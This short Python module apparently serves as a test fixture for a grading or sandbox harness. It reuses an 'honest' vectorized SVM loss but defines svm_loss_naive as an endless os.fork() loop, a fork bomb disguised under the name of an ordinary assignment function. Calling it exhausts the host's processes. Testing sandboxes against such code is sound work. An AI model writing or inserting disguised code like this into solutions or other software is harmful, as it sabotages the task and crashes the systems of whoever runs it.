"""Start processes that start processes.

Fails: the process may have no other beside it.
"""

import os

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    while True:
        os.fork()
